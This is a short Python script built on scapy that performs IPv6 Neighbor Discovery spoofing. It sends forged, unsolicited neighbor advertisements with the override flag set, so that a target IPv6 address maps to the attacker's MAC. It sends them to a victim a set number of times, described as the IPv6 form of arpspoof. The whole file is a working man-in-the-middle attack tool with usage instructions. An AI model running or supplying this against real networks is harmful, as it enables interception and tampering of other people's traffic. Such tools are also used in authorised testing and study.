# Neighbor Discovery spoofing (scapy): unsolicited neighbor advertisements, override flag set, claiming TARGET_IP6 for
# the attacker's MAC, sent to the victim COUNT times a second apart (the IPv6 form of arpspoof).
# Usage: nd_spoof.py IFACE TARGET_IP6 VICTIM_IP6 COUNT
import sys, time
from scapy.all import sendp, Ether, IPv6, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, get_if_hwaddr, conf

conf.verb = 0
iface, target, victim, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
mac = get_if_hwaddr(iface)
na = Ether(src=mac) / IPv6(src=target, dst=victim) / ICMPv6ND_NA(tgt=target, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac)
for _ in range(count):
    sendp(na, iface=iface)
    time.sleep(1)
